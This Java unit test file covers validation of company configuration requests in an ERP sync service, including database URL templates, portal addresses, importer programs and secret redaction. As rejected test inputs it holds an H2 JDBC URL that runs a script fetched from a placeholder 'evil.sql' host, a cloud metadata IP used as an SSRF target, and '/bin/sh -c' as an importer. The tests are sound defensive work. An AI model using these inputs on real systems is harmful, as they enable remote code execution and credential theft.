package dev.gatehouse.erpsync.company;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.erpsync.SyncSettings;
import dev.gatehouse.erpsync.company.CompanyRequests.CompanyBody;
import dev.gatehouse.erpsync.company.CompanyRequests.ImporterBody;
import dev.gatehouse.erpsync.company.CompanyRequests.PortalBody;
import dev.gatehouse.erpsync.company.CompanyRequests.SqlBody;
import dev.gatehouse.kernel.web.ApiProblem.FieldMessage;

import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

import java.nio.file.Path;
import java.time.Duration;
import java.util.List;

class CompanyRequestsTest {

    private static final Path IMPORTER = Path.of("/opt/focaltec/importa");

    @Test
    void anH2TemplateIsAcceptedInDevelopmentOnlyAndOnlyInSqlServerMode() {
        String h2 = "jdbc:h2:mem:{database};MODE=MSSQLServer;DATABASE_TO_UPPER=FALSE";
        assertThat(check(dev(), withTemplate(h2))).isInstanceOf(CompanyRequests.Valid.class);
        assertThat(fields(check(production(), withTemplate(h2))))
                .containsExactly("sql.url_template");
        assertThat(fields(check(dev(), withTemplate("jdbc:h2:mem:{database}"))))
                .containsExactly("sql.url_template");
    }

    @Test
    void anH2TemplateMayNotRunScripts() {
        String init =
                "jdbc:h2:mem:{database};MODE=MSSQLServer;INIT=RUNSCRIPT FROM 'http://x/evil.sql'";
        assertThat(fields(check(dev(), withTemplate(init)))).containsExactly("sql.url_template");
    }

    @Test
    void aPlainHttpPortalIsRefusedInProduction() {
        CompanyBody body = valid("http://portal.example.com", null);
        assertThat(check(dev(), body)).isInstanceOf(CompanyRequests.Valid.class);
        assertThat(fields(check(production(), body))).containsExactly("portal.url");
    }

    @Test
    void aPortalOnAPrivateAddressIsRefusedUnlessAllowed() {
        CompanyBody loopback = valid("https://127.0.0.1:8443", null);
        CompanyBody metadata = valid("https://169.254.169.254", null);
        SyncSettings strict = withPrivatePortal(false);
        assertThat(fields(new CompanyRequests(strict, true).check(loopback, true)))
                .containsExactly("portal.url");
        assertThat(fields(new CompanyRequests(strict, true).check(metadata, true)))
                .containsExactly("portal.url");
        assertThat(check(production(), loopback)).isInstanceOf(CompanyRequests.Valid.class);
    }

    private static SyncSettings withPrivatePortal(boolean allowed) {
        SyncSettings s = settings();
        return new SyncSettings(
                s.portalHttpTimeout(),
                s.stepTimeout(),
                s.childProcessTimeout(),
                s.lockTimeout(),
                s.sqlQueryTimeout(),
                s.retryLookbackDays(),
                s.retryIntervalPayment(),
                s.retryIntervalPurchaseOrder(),
                s.maxCompaniesPerTenant(),
                s.importerPrograms(),
                s.downloadsRoot(),
                s.schedulerPolling(),
                allowed,
                false,
                false,
                4);
    }

    @Test
    void theImporterMustBeAProgramTheOperatorAllows() {
        CompanyBody allowed = withImporter(new ImporterBody(IMPORTER.toString(), "COPDAT"));
        CompanyBody other = withImporter(new ImporterBody("/bin/sh", "-c"));
        assertThat(check(dev(), allowed)).isInstanceOf(CompanyRequests.Valid.class);
        assertThat(fields(check(dev(), other))).containsExactly("importer.program");
    }

    @Test
    void aTrailingSlashOfThePortalUrlIsDroppedAndRepeatedLocationsAreKeptOnce() {
        CompanyRequests.Valid v =
                (CompanyRequests.Valid) check(dev(), valid("https://portal.example.com/", null));
        assertThat(v.config().portal().url()).isEqualTo("https://portal.example.com");
        assertThat(v.config().skipLocations()).containsExactly("A1");
    }

    @Test
    void secretsAreRequiredOnCreateAndKeptWhenOmittedLater() {
        CompanyBody noSecrets =
                new CompanyBody(
                        "Co",
                        new PortalBody("https://p.example.com", "t1", null, null),
                        new SqlBody("sage", null, "sa", null, null, null),
                        new CompanyRequests.DatabasesBody("COPDAT", null, null),
                        "CDA010101AAA",
                        new CompanyRequests.IssuerBody("Co", "CDA010101AAA", "601"),
                        null,
                        null,
                        null,
                        null,
                        null,
                        null,
                        null,
                        null);
        assertThat(fields(new CompanyRequests(settings(), false).check(noSecrets, true)))
                .containsExactlyInAnyOrder("portal.key", "portal.secret", "sql.password");
        CompanyRequests.Valid later =
                (CompanyRequests.Valid)
                        new CompanyRequests(settings(), false).check(noSecrets, false);
        assertThat(later.given().names()).isEmpty();
    }

    @Test
    void secretsNeverAppearInMessages() {
        String secret = "ünicode-secret-\n-value";
        CompanyBody body =
                new CompanyBody(
                        "Co",
                        new PortalBody("https://p.example.com", "t1", secret, secret),
                        new SqlBody("sage", null, "sa", secret, null, null),
                        new CompanyRequests.DatabasesBody("COPDAT", null, null),
                        "CDA010101AAA",
                        new CompanyRequests.IssuerBody("Co", "CDA010101AAA", "601"),
                        null,
                        null,
                        null,
                        null,
                        null,
                        null,
                        null,
                        null);
        CompanyRequests.Checked checked = check(dev(), body);
        assertThat(fields(checked))
                .containsExactlyInAnyOrder("portal.key", "portal.secret", "sql.password");
        assertThat(checked.toString()).doesNotContain("secret-");
    }

    private static CompanyRequests.Checked check(CompanyRequests requests, CompanyBody body) {
        return requests.check(body, true);
    }

    private static CompanyRequests dev() {
        return new CompanyRequests(settings(), false);
    }

    private static CompanyRequests production() {
        return new CompanyRequests(settings(), true);
    }

    private static SyncSettings settings() {
        return new SyncSettings(
                Duration.ofSeconds(30),
                Duration.ofMinutes(5),
                Duration.ofMinutes(10),
                Duration.ofMinutes(14),
                Duration.ofSeconds(60),
                30,
                Duration.ofMinutes(30),
                Duration.ofMinutes(240),
                20,
                List.of(IMPORTER),
                Path.of("/tmp/sync"),
                Duration.ofSeconds(10),
                true,
                false,
                false,
                4);
    }

    private static CompanyBody withTemplate(String template) {
        return valid("https://p.example.com", template);
    }

    private static CompanyBody withImporter(ImporterBody importer) {
        CompanyBody b = valid("https://p.example.com", null);
        return new CompanyBody(
                b.name(),
                b.portal(),
                b.sql(),
                b.databases(),
                b.externalId(),
                b.issuer(),
                b.cron(),
                b.timeZone(),
                importer,
                b.downloadsPath(),
                b.addressDefaults(),
                b.skipLocations(),
                b.mailRecipients(),
                b.enabled());
    }

    private static CompanyBody valid(String portalUrl, @Nullable String template) {
        return new CompanyBody(
                "Copamex",
                new PortalBody(portalUrl, "t1", "key-1", "secret-1"),
                new SqlBody("sage.internal", 1433, "sa", "pw-1", true, template),
                new CompanyRequests.DatabasesBody("COPDAT", null, null),
                "CDA010101AAA",
                new CompanyRequests.IssuerBody("Copamex", "CDA010101AAA", "601"),
                "*/15 * * * *",
                "America/Mexico_City",
                null,
                null,
                null,
                List.of("A1", "A1"),
                List.of(),
                true);
    }

    private static List<String> fields(CompanyRequests.Checked checked) {
        return switch (checked) {
            case CompanyRequests.Invalid(List<FieldMessage> errors) ->
                    errors.stream().map(FieldMessage::field).toList();
            case CompanyRequests.Valid v -> List.of();
        };
    }
}
